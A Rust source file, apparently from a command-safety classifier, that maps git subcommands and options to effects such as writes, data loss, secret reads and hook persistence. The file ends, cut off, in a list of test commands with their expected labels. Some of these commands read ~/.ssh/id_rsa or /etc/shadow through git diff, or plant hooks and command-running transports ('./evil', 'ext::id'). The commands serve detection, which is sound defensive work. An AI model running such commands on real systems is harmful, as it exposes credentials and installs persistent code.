//! `git`, from its manual pages (2.47), and its like.
//!
//! Existing repository hooks are not counted as an effect of every git command. Putting one there
//! is an effect, and so is a setting that names another folder for them.

mod names;
mod rules;

use crate::model::Opt;
use crate::model::tool::Action::{
    self, Alone, Call, Here, If, Listens, Loss, Reads, Secret, Sends, Setting, Unknown, Unless,
    WithOperands,
};
use crate::model::tool::{Tool, opts, tools};
pub(super) use rules::fills;
use rules::{checkout, clone, config, push, remote, restore, settings, url};

/// Options of everything that shows differences.
const DIFF: &[Opt] = opts!(
    "-p -u --patch, -s --no-patch, -U --unified[=], --output=>, --output-indicator-new=, \
     --output-indicator-old=, --output-indicator-context=, --raw, --patch-with-raw, \
     --indent-heuristic, --minimal, --patience, --histogram, --anchored=, --diff-algorithm=, \
     --stat[=], --stat-width=, --stat-name-width=, --stat-count=, --stat-graph-width=, \
     --compact-summary, --numstat, --shortstat, -X --dirstat[=], --cumulative, \
     --dirstat-by-file[=], --summary, --patch-with-stat, -z, --name-only, --name-status, \
     --submodule[=], --color[=], --color-moved[=], --color-moved-ws=, --word-diff[=], \
     --word-diff-regex=, --color-words[=], --renames, --rename-empty, --check, \
     --ws-error-highlight=, --full-index, --binary, --abbrev[=], -B --break-rewrites[=], \
     -M --find-renames[=], -C --find-copies[=], --find-copies-harder, \
     -D --irreversible-delete, -l=, --diff-filter=, -S=, -G=, --find-object=, --pickaxe-all, \
     --pickaxe-regex, -O=<, --skip-to=, --rotate-to=, -R, --relative[=], -a --text, \
     --ignore-cr-at-eol, --ignore-space-at-eol, -b --ignore-space-change, \
     -w --ignore-all-space, --ignore-blank-lines, -I --ignore-matching-lines=, \
     --inter-hunk-context=, -W --function-context, --ext-diff, --textconv, \
     --ignore-submodules[=], --src-prefix=, --dst-prefix=, --no-prefix, --default-prefix, \
     --line-prefix=, --ita-invisible-in-index, --exit-code, -q --quiet"
);

/// Options of everything that walks commits.
const REVISIONS: &[Opt] = opts!(
    "-n --max-count=, -#, --skip=, --since --after=, --until --before=, --since-as-filter=, \
     --author=, --committer=, --grep-reflog=, --grep=, --all-match, --invert-grep, \
     -i --regexp-ignore-case, --basic-regexp, -E --extended-regexp, -F --fixed-strings, \
     -P --perl-regexp, --remove-empty, --merges, --min-parents=, --max-parents=, \
     --first-parent, --exclude-first-parent-only, --not, --all, --branches[=], --tags[=], \
     --remotes[=], --glob=, --exclude=, --exclude-hidden=, --reflog, --alternate-refs, \
     --single-worktree, --ignore-missing, --bisect, --stdin, --cherry-mark, --cherry-pick, \
     --left-only, --right-only, --cherry, -g --walk-reflogs, --merge, --boundary, \
     --simplify-by-decoration, --show-pulls, --full-history, --dense, --sparse, \
     --simplify-merges, --ancestry-path[=], --date-order, --author-date-order, --topo-order, \
     --reverse, --no-walk[=], --do-walk, --pretty[=], --format=, --abbrev-commit, --oneline, \
     --encoding=, --expand-tabs[=], --notes[=], --show-notes[=], --standard-notes, \
     --show-signature, --relative-date, --date=, --parents, --children, --left-right, --graph, \
     --show-linear-break[=], --count, --timestamp, --objects, --filter=, --missing="
);

/// Options of `log` and `show`.
const LOG: &[Opt] = opts!(
    "--follow, --decorate[=], --decorate-refs=, --decorate-refs-exclude=, --clear-decorations, \
     --source, --mailmap, --use-mailmap, --full-diff, --log-size, -L=, --diff-merges=, -m, -c, \
     --cc, --dd, --remerge-diff, -t, --combined-all-paths"
);

/// Options of `merge` and `pull`.
const MERGE: &[Opt] = opts!(
    "--commit, -e --edit, --cleanup=, --ff, --ff-only, -S --gpg-sign[=], --log[=], --signoff, \
     --stat, -n, --compact-summary, --squash, --verify, -s --strategy=, -X --strategy-option=, \
     --verify-signatures, --summary, --autostash, --allow-unrelated-histories"
);

/// Options of everything that fetches.
const FETCH: &[Opt] = opts!(
    "-v --verbose, -q --quiet, --progress, -a --append, --atomic, --depth=, --deepen=, \
     --shallow-since=, --shallow-exclude=, --unshallow, --update-shallow, --negotiation-tip=, \
     --negotiate-only, --dry-run, -f --force, -k --keep, --multiple, --auto-maintenance, \
     --auto-gc, --write-commit-graph, -p --prune, -P --prune-tags, --no-tags, -t --tags, \
     --refmap=, --recurse-submodules[=], -j --jobs=, --set-upstream, --submodule-prefix=, \
     -u --update-head-ok, --upload-pack=!, --show-forced-updates, -4 --ipv4, -6 --ipv6, \
     -o --server-option=, --all, --refetch, --filter=, --write-fetch-head, --prefetch, \
     --porcelain"
);

/// Steps of what goes on after a conflict.
const STEPS: &[Opt] = opts!("--continue --abort --skip --quit");

/// Options of commands that list references.
const LIST: &[Opt] = opts!(
    "--sort=, --format=, --points-at=, --contains[=], --no-contains[=], --merged[=], \
     --no-merged[=], --color[=], --column[=], --ignore-case, -i, --omit-empty"
);

/// Options of `config` and of its commands. They end with the first word that is no option.
const CONFIG: &[Opt] = opts!(
    "--global, --system, --local, --worktree, -f --file=, --fixed-value, -t --type=, --no-type, --bool, --int, \
     --bool-or-int, --bool-or-str, --path, --expiry-date, -z --null, --name-only, --show-origin, \
     --show-scope, --show-names, --includes, --no-includes, --comment="
);

/// What a command that reaches remotes does.
const REMOTE: Action = Call(remote);
/// What a merge strategy runs.
const STRATEGY: Action = Call(rules::strategy);

/// The tools of this file, each with its options, its commands and its examples.
pub(super) const TABLE: &[Tool] = tools! {
    Git "git" "-C=/, -c=, --config-env=, --exec-path=!, -p --paginate, -P --no-pager, --git-dir=, \
        --work-tree=, --namespace=, --bare, --no-replace-objects, --no-lazy-fetch, \
        --no-optional-locks, --no-advice, --literal-pathspecs, --glob-pathspecs, \
        --noglob-pathspecs, --icase-pathspecs, --list-cmds=, --attr-source=, --html-path, \
        --man-path, --info-path, -v --version, -h" => Call(settings); {

        // Reads.
        "status" "-s --short, -b --branch, --show-stash, --porcelain[=], --long, -v --verbose, \
            -u --untracked-files[=], --ignore-submodules[=], --ignored[=], -z, --column[=], \
            --ahead-behind, --renames, --find-renames[=]" => ;
        "log whatchanged" [DIFF, REVISIONS, LOG] => If("--ext-diff", &[Setting("--ext-diff")]);
        "show" [DIFF, REVISIONS, LOG] => If("--ext-diff", &[Setting("--ext-diff")]);
        "diff" [DIFF] "--cached --staged, --no-index, --merge-base, -1 --base, -2 --ours, \
            -3 --theirs, -0, --cc, -c"
            => If("--ext-diff", &[Setting("--ext-diff")]), Call(rules::compared);
        "diff-tree" [DIFF, REVISIONS, LOG] "-r, --root, --no-commit-id, --always"
            => If("--ext-diff", &[Setting("--ext-diff")]);
        "diff-index diff-files" [DIFF] "--cached, -m, --merge-base, -0, -1, -2, -3, -c, --cc"
            => If("--ext-diff", &[Setting("--ext-diff")]);
        "range-diff" [DIFF, REVISIONS, LOG] "--dual-color, --creation-factor=, --left-only, \
            --right-only" => ;
        "shortlog" [REVISIONS] "-n --numbered, -s --summary, -e --email, --group=, -w[=]" => ;
        "blame annotate" "-b, --root, --show-stats, -L=, -l, -t, -S=<, --reverse, --first-parent, \
            -p --porcelain, --line-porcelain, --incremental, --encoding=, --contents=<, --date=, \
            --progress, -M[=], -C[=], --abbrev=, --ignore-rev=, --ignore-revs-file=<, \
            --color-lines, --color-by-age, -c, -f --show-name, -n --show-number, -s, \
            -e --show-email, -w, --diff-algorithm=, --minimal" => ;
        "grep" "--cached, --untracked, --no-index, --exclude-standard, --recurse-submodules, \
            -a --text, --textconv, -i --ignore-case, -I, --max-depth=, -r --recursive, \
            -w --word-regexp, -v --invert-match, -h, -H, --full-name, -E --extended-regexp, \
            -G --basic-regexp, -P --perl-regexp, -F --fixed-strings, -n --line-number, --column, \
            -l --files-with-matches --name-only, -L --files-without-match, \
            -O --open-files-in-pager[=], -z --null, -o --only-matching, -c --count, --color[=], \
            --break, --heading, -p --show-function, -#, -C --context=, -A --after-context=, \
            -B --before-context=, -W --function-context, -m --max-count=, --threads=, -f=<, -e=, \
            --and, --or, --not, --all-match, -q --quiet"
            => If("-O", &[Setting("--open-files-in-pager")]), If("--no-index", &[Reads]);
        "rev-parse" "--parseopt, --sq-quote, --revs-only, --no-revs, --flags, --no-flags, \
            --default=, --prefix=, --verify, -q --quiet, --sq, --short[=], --not, \
            --abbrev-ref[=], --symbolic, --symbolic-full-name, --all, --branches[=], --tags[=], \
            --remotes[=], --glob=, --exclude=, --disambiguate=, --local-env-vars, --path-format=, \
            --git-dir, --git-common-dir, --is-inside-git-dir, --is-inside-work-tree, \
            --is-bare-repository, --is-shallow-repository, --resolve-git-dir=, --git-path=, \
            --show-cdup, --show-prefix, --show-toplevel, --show-superproject-working-tree, \
            --shared-index-path, --absolute-git-dir, --since=, --after=, --until=, --before=, \
            --show-object-format[=], --show-ref-format" => ;
        "ls-files" "-c --cached, -d --deleted, -m --modified, -o --others, -i --ignored, \
            -s --stage, --directory, --empty-directory, -u --unmerged, -k --killed, \
            --resolve-undo, -z, --deduplicate, -x --exclude=, -X --exclude-from=<, \
            --exclude-per-directory=, --exclude-standard, --error-unmatch, --with-tree=, -t, -v, \
            -f, --full-name, --recurse-submodules, --abbrev[=], --debug, --eol, --sparse, \
            --format=" => ;
        "ls-tree" "-d, -r, -t, -l --long, -z, --name-only, --name-status, --object-only, \
            --full-name, --full-tree, --abbrev[=], --format=" => ;
        "rev-list" [REVISIONS, DIFF] "--header, --disk-usage[=], --objects-edge, \
            --in-commit-order, --use-bitmap-index, --unpacked, --bisect-all, --bisect-vars, \
            --no-object-names, --timestamp" => ;
        "cat-file" "-t, -s, -e, -p, --textconv, --filters, --path=, --batch[=], --batch-check[=], \
            --batch-command[=], --batch-all-objects, --buffer, --unordered, --allow-unknown-type, \
            --follow-symlinks, -z, --mailmap, --use-mailmap, --filter=" => ;
        "describe" "--dirty[=], --broken[=], --all, --tags, --contains, --abbrev=, --candidates=, \
            --exact-match, --debug, --long, --match=, --exclude=, --always, --first-parent" => ;
        "merge-base" "--octopus, --independent, --is-ancestor, --fork-point, -a --all" => ;
        "merge-tree" "--write-tree, --trivial-merge, --messages, --name-only, --stdin, -z, \
            --merge-base=, --allow-unrelated-histories, -X --strategy-option=, --quiet" => ;
        "name-rev" "--tags, --refs=, --exclude=, --all, --annotate-stdin, --stdin, --name-only, \
            --undefined, --always" => ;
        "for-each-ref" [LIST] "--count=, -s --shell, -p --perl, --python, --tcl, --stdin, \
            --exclude=, --include-root-refs" => ;
        "show-ref" "--head, --branches, --heads, --tags, -d --dereference, -s --hash[=], \
            --verify, --exists, --abbrev[=], -q --quiet, --exclude-existing[=]" => ;
        "show-branch" "-r --remotes, -a --all, --current, --topo-order, --date-order, --sparse, \
            --more=, --list, --merge-base, --independent, --no-name, --sha1-name, --topics, \
            -g --reflog[=], --color[=]" => ;
        "cherry" "-v, --abbrev[=]" => ;
        "check-ignore check-attr check-mailmap check-ref-format" "-q --quiet, -v --verbose, \
            --stdin, -z, -n --non-matching, --no-index, -a --all, --cached, --source=, \
            --allow-onelevel, --refspec-pattern, --normalize, --branch" => ;
        "count-objects" "-v --verbose, -H --human-readable" => ;
        "fsck" "--tags, --root, --unreachable, --cache, --no-reflogs, --reflogs, --full, \
            --connectivity-only, --strict, --verbose, --dangling, --progress, --name-objects, \
            --lost-found, --references" => ;
        "verify-commit verify-tag verify-pack" "-v --verbose, --raw, --format=, -s --stat-only" => ;
        "var" "-l" => ;
        "column" "--command=, --mode[=], --raw-mode=, --width=, --indent=, --nl=, --padding=" => ;
        "stripspace" "-s --strip-comments, -c --comment-lines" => ;
        "patch-id" "--stable, --unstable, --verbatim" => ;
        "get-tar-commit-id" => ;
        "help version" "-a --all, -g --guides, -c --config, -i --info, -m --man, -w --web, \
            --build-options, --verbose" => ;
        "hash-object" "-t=, -w, --stdin, --stdin-paths, --path=, --no-filters, --literally"
            => Reads, Call(rules::hashed), If("-w", &[Here]);
        "interpret-trailers" "--in-place, --trim-empty, --where=, --if-exists=, --if-missing=, \
            --only-trailers, --only-input, --unfold, --parse, --no-divider, --trailer=" => Reads, If("--in-place", &[Action::Writes]);
        "ls-remote" "--branches, -h --heads, -t --tags, --refs, -q --quiet, \
            --upload-pack --exec=!, --exit-code, --get-url, --sort=, --symref, \
            -o --server-option=" => REMOTE;

        // Work in the workspace.
        "add stage" "-n --dry-run, -v --verbose, -i --interactive, -p --patch, -e --edit, \
            -f --force, -u --update, --renormalize, -N --intent-to-add, -A --all, \
            --ignore-removal, --refresh, --ignore-errors, --ignore-missing, --sparse, --chmod=, \
            --pathspec-from-file=<, --pathspec-file-nul"
            => Here;
        "commit" "-a --all, -p --patch, -C --reuse-message=, -c --reedit-message=, --fixup=, \
            --squash=, --reset-author, --short, --branch, --porcelain, --long, -z --null, \
            -F --file=<, --author=, --date=, -m --message=, -t --template=<, -s --signoff, \
            --trailer=, -n --no-verify, --verify, --allow-empty, --allow-empty-message, \
            --cleanup=, -e --edit, --amend, --no-post-rewrite, -i --include, -o --only, \
            --pathspec-from-file=<, --pathspec-file-nul, -u --untracked-files[=], -v --verbose, \
            -q --quiet, --dry-run, --status, -S --gpg-sign[=], --interactive"
            => Here;
        "checkout" "-q --quiet, --progress, -f --force, --ours, --theirs, -b=, -B=, \
            -t --track[=], --guess, -l, -d --detach, --orphan=, --ignore-skip-worktree-bits, \
            -m --merge, --conflict=, -p --patch, --ignore-other-worktrees, --overwrite-ignore, \
            --recurse-submodules, --overlay, --pathspec-from-file=<, --pathspec-file-nul" => Here, Call(checkout);
        "switch" "-c --create=, -C --force-create=, -d --detach, --guess, -f --force, \
            --discard-changes, -m --merge, --conflict=, -q --quiet, --progress, -t --track[=], \
            --orphan=, --ignore-other-worktrees, --recurse-submodules" => Here, If("-f --discard-changes -C", &[Loss]);
        "restore" "-s --source=, -p --patch, -W --worktree, -S --staged, -q --quiet, --progress, \
            --ours, --theirs, -m --merge, --conflict=, --ignore-unmerged, \
            --ignore-skip-worktree-bits, --recurse-submodules, --overlay, --pathspec-from-file=<, \
            --pathspec-file-nul" => Here, Call(restore);
        "reset" "--soft, --mixed, -N --intent-to-add, --hard, --merge, --keep, \
            --recurse-submodules, -q --quiet, --refresh, -p --patch, --pathspec-from-file=<, \
            --pathspec-file-nul"
            => Here, If("--hard", &[Loss]);
        "merge" [MERGE, STEPS] "-m=, -F --file=<, --into-name=, --rerere-autoupdate, -q --quiet, \
            -v --verbose, --progress, --overwrite-ignore" => Here, STRATEGY;
        "rebase" [STEPS] "--onto=, --keep-base, --root, --apply, --empty=, --keep-empty, \
            --reapply-cherry-picks, --allow-empty-message, -m --merge, -s --strategy=, \
            -X --strategy-option=, --rerere-autoupdate, -S --gpg-sign[=], -q --quiet, \
            -v --verbose, --stat, -n --no-stat, --verify, -C=, --no-ff --force-rebase, -f, \
            --fork-point, --ignore-whitespace, --whitespace=, --committer-date-is-author-date, \
            --ignore-date --reset-author-date, --signoff, -i --interactive, \
            -r --rebase-merges[=], -x --exec=!, --autosquash, --autostash, \
            --reschedule-failed-exec, --update-refs, --edit-todo, --show-current-patch"
            => Here, STRATEGY;
        "cherry-pick revert" [STEPS] "-e --edit, --cleanup=, -x, -r, -m --mainline=, \
            -n --no-commit, -s --signoff, -S --gpg-sign[=], --ff, --allow-empty, \
            --allow-empty-message, --empty=, --keep-redundant-commits, --strategy=, \
            -X --strategy-option=, --rerere-autoupdate, --reference" => Here, STRATEGY;
        "am" [STEPS] "-s --signoff, -k --keep, --keep-non-patch, -b, -i --interactive, -3 --3way, \
            -q --quiet, -u --utf8, -c --scissors, --ignore-space-change, --ignore-whitespace, \
            --whitespace=, -C=, -p=, --directory=, --exclude=, --include=, --reject, \
            --patch-format=, -r --resolved, --allow-empty, --show-current-patch[=], --retry, \
            --committer-date-is-author-date, --ignore-date, -S --gpg-sign[=], -m --message-id, \
            -n --no-verify, --empty=" => Reads, Here;
        "apply" "--stat, --numstat, --summary, --check, --index, -N --intent-to-add, -3 --3way, \
            --ours, --theirs, --union, --build-fake-ancestor=>, -R --reverse, --reject, -z, -p=, \
            -C=, --unidiff-zero, --apply, --no-add, --binary, --allow-binary-replacement, \
            --exclude=, --include=, --ignore-space-change, --ignore-whitespace, --whitespace=, \
            --inaccurate-eof, -v --verbose, -q --quiet, --recount, --directory=, --unsafe-paths, \
            --allow-empty, --cached" => Reads, Here,
            If("--unsafe-paths", &[Unknown("with `--unsafe-paths` it writes anywhere")]);
        "mv" "-f --force, -k, -n --dry-run, -v --verbose, --sparse" => Here, Call(rules::last_written);
        "rm" "-f --force, -n --dry-run, -r, --cached, --ignore-unmatch, --sparse, -q --quiet, \
            --pathspec-from-file=<, --pathspec-file-nul" => Here,
            If("-f", &[Unless("--cached -n", &[Loss])]);
        "clean" "-d, -f --force, -i --interactive, -n --dry-run, -q --quiet, -e --exclude=, -x, \
            -X"
            => Unless("-n", &[Here, Loss]);
        "stash" "-p --patch, -k --keep-index, -S --staged, -q --quiet, -u --include-untracked, \
            -a --all, -m --message=, --pathspec-from-file=<, --pathspec-file-nul" => Here; {
            "push save" "-p --patch, -k --keep-index, -S --staged, -q --quiet, \
                -u --include-untracked, -a --all, -m --message=, --pathspec-from-file=<, \
                --pathspec-file-nul" => Here;
            "pop apply branch create store" "--index, -q --quiet, -m --message=" => Here;
            "list" [DIFF, REVISIONS, LOG] => ;
            "show" [DIFF, LOG] "-u --include-untracked, --only-untracked" => ;
            "drop clear" "-q --quiet" => Here, Loss;
        };
        "branch" [LIST] "-d --delete, -D, -m --move, -M, -c --copy, -C, -f --force, -r --remotes, \
            -a --all, -l --list, -v --verbose, -q --quiet, --abbrev=, --show-current, \
            --create-reflog, --edit-description, -t --track[=], -u --set-upstream-to=, \
            --unset-upstream, --recurse-submodules" => WithOperands(&[Unless("-l -a -r --contains --merged --no-merged --points-at", &[Here])]),
            If("-D -M -C -f", &[Here, Loss]), If("-u --unset-upstream --edit-description", &[Here]);
        "tag" [LIST] "-a --annotate, -s --sign, --no-sign, -u --local-user=, -f --force, \
            -d --delete, -v --verify, -n[=], -l --list, -m --message=, -F --file=<, --trailer=, \
            -e --edit, --cleanup=, --create-reflog"
            => WithOperands(&[Unless("-l -v -n --contains --merged", &[Here])]),
            If("-d -f", &[Loss]);
        "worktree" => ; {
            "add" "-f --force, -d --detach, --checkout, --lock, --reason=, --orphan, -b=, -B=, \
                --track, --guess-remote, -q --quiet, --relative-paths" => Here, Call(rules::first_written);
            "list" "-v, --porcelain, -z, --expire=" => ;
            "move" "-f --force" => Here, Call(rules::last_written);
            "repair" "--relative-paths" => Here, Action::Writes;
            "lock unlock prune" "--reason=, -f --force, -n --dry-run, -v, --expire=, \
                --relative-paths"
                => Here;
            "remove" "-f --force" => Here, If("-f", &[Loss]);
        };
        "init" "-q --quiet, --bare, --object-format=, --ref-format=, --template=<, \
            --separate-git-dir=>, -b --initial-branch=, --shared[=]" => Alone(&[Here]), WithOperands(&[Action::Writes]),
            If("--template", &[Setting("--template")]);
        "bisect" => ; {
            "start" "--term-new=, --term-old=, --term-good=, --term-bad=, --no-checkout, \
                --first-parent" => Here;
            "bad new good old skip next reset terms replay log"
                "--term-good, --term-old, --term-bad, --term-new" => Here;
            "visualize view" [DIFF, REVISIONS, LOG]
                => WithOperands(&[Unknown("it runs the command that it is given")]);
            @Posix "run" => Here;
        };
        "notes" "--ref=" => ; {
            "list show get-ref" => ;
            "add append copy edit merge remove prune" "-f --force, -m --message=, -F --file=<, \
                -C=, -c=, --allow-empty, --stdin, -n, -v, -s --strategy=, --commit, --abort, \
                --ignore-missing, --separator[=], --stripspace" => Here;
        };
        "sparse-checkout" => ; {
            "list check-rules" => ;
            "init set add reapply disable" "--cone, --sparse-index, --skip-checks, --stdin" => Here;
        };
        "rerere" => Here; { "clear forget diff remaining status gc" => Here; };
        "update-index" "--add, --remove, --refresh, -q, --ignore-submodules, --unmerged, \
            --ignore-missing, --cacheinfo, --chmod=, --assume-unchanged, --skip-worktree, \
            --ignore-skip-worktree-entries, --fsmonitor-valid, --really-refresh, -g --again, \
            --unresolve, --info-only, --force-remove, --replace, --stdin, --index-version=, \
            --verbose, -z, --split-index, --untracked-cache, --fsmonitor, --force-write-index" => Here;
        "checkout-index" "-a --all, -f --force, -u --index, -q --quiet, -n --no-create, --prefix=, \
            --stage=, --temp, --stdin, -z, --ignore-skip-worktree-bits" => Here, Call(rules::prefixed);
        "commit-tree" "-p=, -m=, -F=<, -S --gpg-sign[=]" => Here;
        "read-tree write-tree mktree mktag pack-refs repack commit-graph \
            multi-pack-index" "-a --all, -f --force, -u, -q --quiet, -m, -n, -p=, -d, -l, -r, \
                --reset, -i, --prefix=, --index-output=>, --missing-ok, -A, -F, --stdin, -z, \
                --no-prune, --prune, --empty" => Here; {
            "*" "-a --all, -f --force, -u, -q --quiet, -m=, -n, -p=, -d, -l, -r, --reset, -i, \
                --prefix=, --missing-ok, --reachable, --changed-paths, --progress, --split[=], \
                --append" => Here;
        };
        "symbolic-ref" "-d --delete, -q --quiet, --short, --recurse, -m=" => WithOperands(&[Here]);
        "format-patch" [DIFF, REVISIONS, LOG] "-o --output-directory=>, -N --no-numbered, \
            --numbered, --start-number=, --numbered-files, -k --keep-subject, -s --signoff, \
            --stdout, --attach[=], --inline[=], --thread[=], --in-reply-to=, --subject-prefix=, \
            --rfc[=], -v --reroll-count=, --to=, --cc=, --from[=], --add-header=, --cover-letter, \
            --cover-from-description=, --description-file=<, --signature=, --signature-file=<, \
            --suffix=, --ignore-if-in-upstream, --always, --zero-commit, --base=, --root, \
            --range-diff=, --interdiff=, --filename-max-length="
            => Unless("--stdout", &[Here]), Call(rules::suffix);
        "archive" "--format=, -l --list, -v --verbose, --prefix=, -o --output=>, --add-file=<, \
            --worktree-attributes, --remote=, --exec=!, -#, --mtime=" => Call(rules::named_address);
        "bundle" => ; {
            "create" [REVISIONS] "-q --quiet, --progress, --all-progress, --version=" => Call(rules::first_written);
            "verify list-heads unbundle" "-q --quiet, --progress" => Reads, Here;
        };
        "submodule" "-q --quiet, --cached" => ; {
            "status summary" "-q --quiet, --cached, --recursive, --files, -n --summary-limit=" => ;
            "add" "-b=, -f --force, --name=, --reference=<, --depth=, --progress" => REMOTE, Here, Call(rules::added);
            "init sync absorbgitdirs set-branch set-url" "--recursive, -q --quiet, --default -d, \
                -b --branch="
                => Call(url), Here;
            "update" "--init, --remote, -N --no-fetch, -f --force, --checkout, --rebase, --merge, \
                --reference=<, --recursive, --depth=, -j --jobs=, --single-branch, \
                --recommend-shallow, --progress, --filter=, -q --quiet"
                => Here, Action::MayFetch("");
            "deinit" "-f --force, --all" => Here, If("-f", &[Loss]);
            @Posix "foreach" "--recursive, -q --quiet" => Here;
        };
        "subtree" => ; {
            "add pull merge" "-P --prefix=, -q --quiet, -d --debug, --squash, -m --message=" => REMOTE, Here, Call(rules::taken_in);
            "split" "-P --prefix=, -q --quiet, -d --debug, --squash, --annotate=, -b --branch=, \
                --ignore-joins, --onto=, --rejoin" => Here;
            "push" "-P --prefix=, -q --quiet, -d --debug" => Action::Remote(false, false), Call(url);
        };
        "lfs" => ; {
            "status ls-files env version track" "-l --long, -s --size, -a --all, --json, \
                -n --name-only, --dry-run, --filename, --lockable, -j, --porcelain" => WithOperands(&[Here]);
            "install uninstall" "--local, --force, --skip-repo, --system, --skip-smudge, --manual"
                => Action::At(crate::effect::Access::Write, "~/.gitconfig");
            "pull fetch checkout untrack migrate prune fsck" "--all, -I --include=, \
                -X --exclude=, --recent, --prune, --dry-run" => Here, Action::MayFetch("");
            "push" "--all, --dry-run, --object-id" => Action::Remote(false, false);
        };
        "hook" => ; { "run" "--ignore-missing, --to-stdin=<" => Action::Project; };

        // Settings.
        @Posix "config" [CONFIG] "--blob=, --get, --get-all, --get-regexp, --get-urlmatch, --get-color, \
            --get-colorbool, --add, --replace-all, --unset, --unset-all, --rename-section, \
            --remove-section, -l --list, -e --edit, --default=" => Call(config); {
            "list" [CONFIG] "--blob=" => Call(config);
            "get" [CONFIG] "--blob=, --default=, --all, --regexp, --value=, --url=" => Call(config);
            "set" [CONFIG] "--all, --value=, --append" => Call(config);
            "unset" [CONFIG] "--all, --value=" => Call(config);
            "edit" [CONFIG] => Call(config);
            "rename-section" [CONFIG] => Call(config);
            "remove-section" [CONFIG] => Call(config);
            "*" => Call(config);
        };
        "remote" "-v --verbose" => ; {
            "show get-url" "-n, --push, --all" => ;
            "update" "-p --prune" => REMOTE, Here;
            "add set-url" "-t=, -m=, -f, --tags, --no-tags, --mirror[=], --push, --add, --delete" => Call(url), Here;
            "rename remove rm prune set-head set-branches" "-a --auto, -d --delete, -n --dry-run, \
                --add, --progress"
                => Here;
        };
        "credential credential-store credential-cache credential-osxkeychain credential-manager"
            "--file=, --socket=, --timeout=" => Secret("stored credentials"); {
            "fill approve reject get store erase exit capability" => Secret("stored credentials");
        };

        // Other machines.
        "clone" "-l --local, --no-hardlinks, --hardlinks, -s --shared, --reference=<, \
            --reference-if-able=<, --dissociate, -q --quiet, -v --verbose, --progress, \
            --server-option=, -n --no-checkout, --checkout, --reject-shallow, --bare, --sparse, \
            --filter=, --also-filter-submodules, --mirror, -o --origin=, -b --branch=, \
            --revision=, -u --upload-pack=!, --template=<, -c --config=, --depth=, \
            --shallow-since=, --shallow-exclude=, --single-branch, --tags, \
            --recurse-submodules --recursive[=], --shallow-submodules, --remote-submodules, \
            --separate-git-dir=>, --ref-format=, -j --jobs=, --bundle-uri=, -4 --ipv4, -6 --ipv6" => Call(clone), Call(rules::named_address),
            If("--template", &[Setting("--template")]);
        "fetch" [FETCH] => REMOTE, Here;
        "pull" [MERGE, FETCH] "-r --rebase[=]" => REMOTE, Here, STRATEGY, Call(rules::pulled);
        "push" "--all --branches, --prune, --mirror, -n --dry-run, --porcelain, -d --delete, \
            --tags, --follow-tags, --signed[=], --atomic, -o --push-option=, \
            --receive-pack --exec=!, --force-with-lease[=], --force-if-includes, -f --force, \
            --repo=, -u --set-upstream, --thin, -q --quiet, -v --verbose, --progress, \
            --recurse-submodules=, --verify, -4 --ipv4, -6 --ipv6" => Call(push);
        "send-email" "--to=, --cc=, --from=, --subject=, --annotate, --dry-run, --in-reply-to=, \
            --smtp-server=, --suppress-cc=, --confirm=, --compose, --force, --quiet" => Reads, Sends("");
        "request-pull" "-p" => REMOTE;
        "daemon" "--verbose, --syslog, --export-all, --base-path=, --listen=, --port=, --detach, \
            --reuseaddr, --enable=, --inetd, --informative-errors" => Listens;

        // Loss.
        "reflog" [DIFF, REVISIONS, LOG] => ; {
            "show exists list" [DIFF, REVISIONS, LOG] => ;
            "expire delete" "--expire=, --expire-unreachable=, --updateref, --rewrite, \
                --stale-fix, -n --dry-run, --verbose, --all, --single-worktree" => Unless("-n", &[Here, Loss]);
            "*" [DIFF, REVISIONS, LOG] => ;
        };
        "gc" "--aggressive, --auto, --detach, --cruft, --prune[=], --no-prune, -q --quiet, \
            --force, --keep-largest-pack, --max-cruft-size=, --expire-to=>" => Here, Call(rules::collection);
        "prune prune-packed" "-n --dry-run, -v --verbose, --progress, --expire=, -q --quiet" => Unless("-n", &[Here, Loss]);
        "update-ref" "-m=, -d, --no-deref, --create-reflog, --stdin, -z" => Here, If("-d --stdin", &[Loss]);
        "replace" "-f --force, -d --delete, --edit, --graft, --convert-graft-file, -l --list, \
            --format=, --raw"
            => Unless("-l", &[Here, Loss]);
        "filter-branch" "--setup=!, --subdirectory-filter=, --env-filter=!, --tree-filter=!, \
            --index-filter=!, --parent-filter=!, --msg-filter=!, --commit-filter=!, \
            --tag-name-filter=!, --prune-empty, --original=, -d=, -f --force, --state-branch=, \
            --all" => Here, Loss;
        "filter-repo" "--force, --path=, --invert-paths, --strip-blobs-bigger-than=, \
            --replace-text=<, --mailmap=<, --analyze, --subdirectory-filter=" => Here, Unless("--analyze", &[Loss]);
        "maintenance" => ; {
            "run register unregister stop" "--auto, --schedule=, --quiet, --task=, --detach, \
                --config-file=>, --force" => Here;
            "start" "--scheduler=" => Call(rules::scheduled);
        };
        "difftool mergetool" [DIFF] "-d --dir-diff, -y --no-prompt, --prompt, -t --tool=, \
            --tool-help, -x --extcmd=!, -g --gui, --cached --staged, --trust-exit-code" => Setting("the difference tool"), Here;
    } [
        "git config core.hooksPath /tmp/x --get": "persistence:hook write:version_control",
        "git config --get core.hooksPath": "",
        "git config get --all user.name": "",
        "git config set --global user.name x": "write:home:recursive",
        "git config lfs.customtransfer.x.path ./evil": "persistence:hook write:version_control",
        "git config foo.bar x": "unmodelled write:workspace:recursive",
        "git config branch.main.remote origin": "write:workspace:recursive",
        "git config branch.main.remote ext::id": "persistence:hook write:version_control",
        "git -c gc.recentObjectsHook=id prune -n": "code:setting",
        "git -C /tmp/evil status": "unmodelled",
        "git bisect view --stat": "",
        "git bisect view evil": "unmodelled",
        "git merge -s evil x": "unmodelled write:workspace:recursive",
        "git merge -s ours x": "write:workspace:recursive",
        "git checkout-index -a -f --prefix=.git/hooks/": "write:version_control:recursive write:workspace:recursive",
        "git diff /dev/null ~/.ssh/id_rsa": "read:secret:recursive",
        "git diff --cached -- src/a.rs": "",
        "git archive --remote='ext::id' HEAD": "code:setting",
        "git log --oneline -20 --graph --all --decorate": "",
        "git log -p -S 'x y' --since='2 weeks ago' -- src/a.rs": "",
        "git log --format='%h %s' -n5 main..HEAD": "",
        "git diff --stat HEAD~1 -- src": "",
        "git diff --no-index /etc/shadow /dev/null": "read:secret:recursive",
        "git show HEAD:core/src/lib.rs": "",
        "git status -sb": "",
        "git branch --list 'feat/*'": "",
        "git branch -a --no-color": "",
        "git rev-parse --show-toplevel --abbrev-ref HEAD": "",
        "git grep -n nsenter -- '*.rs'": "",
        "git commit -m 'x' --amend --no-edit": "write:workspace:recursive",
        "git add -A && git commit -m 'wip'": "write:workspace:recursive",
        "git -C sub add x": "write:workspace:recursive",
        "git -C /srv/other commit -am x": "unmodelled write:system:recursive",
        "git log --output=/etc/x": "write:system",
